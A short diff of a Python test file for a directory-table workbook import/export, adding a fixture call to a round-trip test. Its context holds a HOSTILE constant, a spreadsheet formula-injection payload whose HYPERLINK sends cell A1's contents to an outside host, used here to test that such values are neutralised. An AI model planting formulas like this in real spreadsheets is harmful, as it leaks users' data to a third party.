@@ -16,6 +16,7 @@ from gateway.tables.drafting import draft
 from ir_directory.formula import is_run
 from ir_directory.load import load
 from routing_tables.release import ROOT, tables
+from tests.tables.conftest import few_communes
 
 HOSTILE = '=HYPERLINK("http://example.org/?"&A1;"CPAM")'
 INSTITUTIONS = "ir_directory/institutions.csv"
@@ -53,6 +54,7 @@ def test_it_is_kept_with_an_apostrophe_and_used_without(folder):
 
 
 def test_it_goes_through_a_workbook_unchanged(folder, tmp_path):
+    few_communes(folder)
     before = (folder / INSTITUTIONS).read_bytes()
     template.write(tmp_path / "t.xlsx", folder)
     found = importing.read(tmp_path / "t.xlsx")
